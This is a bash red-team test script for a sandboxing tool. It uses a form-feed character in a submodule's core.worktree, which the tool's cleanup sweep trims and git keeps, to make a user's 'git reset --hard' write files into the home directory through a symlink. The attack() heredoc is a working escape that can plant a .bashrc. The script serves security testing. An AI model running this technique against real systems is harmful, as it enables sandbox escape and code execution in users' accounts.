#!/usr/bin/env bash
# red team 49: a submodule's core.worktree that the sweep reads as git's
# own layout, and git as a folder outside. The sweep's value reader
# (broker/run/git-defuse.c, read_value()) cuts blanks at a value's ends
# with is_space(), which counts "\f" and "\v"; git's (config.c,
# parse_value()) counts only space, tab, CR and LF, and keeps a trailing
# form feed. The command makes a submodule as `git submodule absorbgitdirs`
# leaves one (.git/modules/lib, lib/.git naming it),
# its commit holding a file named as the mark, and sets
#     core.worktree = ../../../lib<FF>
# with a symbolic link "lib<FF>" in the workspace to the user's home. The
# sweep reads ../../../lib, a folder of the workspace whose .git names the
# gitdir back (is_submodule_worktree()), and keeps it; git reads
# "lib<FF>", follows the link, and the user's `git -C lib reset --hard`
# (or `git submodule update --init --force`) writes the submodule's files
# into the home (a .bashrc as well as the mark).
# usage: 49-worktree-formfeed.sh /path/to/sluice   (as root or a user)
NAME=worktree-formfeed
HOLE="core.worktree '../../../lib<FF>' kept as '../../../lib'; the user's git -C lib reset --hard wrote the submodule's files into the home"
. "$(dirname "$0")/49-lib.sh"
setup() { new_repo "$1"; }
attack() {
  cat <<EOA
G='env PATH=/usr/bin:/bin git' && ff=\$(printf '\\f') &&
mkdir -p .git/modules && \$G init -q --separate-git-dir=.git/modules/lib lib && echo x >lib/${1##*/} &&
\$G -C lib add ${1##*/} && \$G -C lib commit -qm x &&
\$G config -f .git/modules/lib/config core.worktree "../../../lib\$ff" &&
ln -s ${1%/*} "lib\$ff"; rm -f lib/${1##*/}
EOA
}
trigger() { git -C "$1/lib" reset -q --hard >/dev/null 2>&1; }
finish
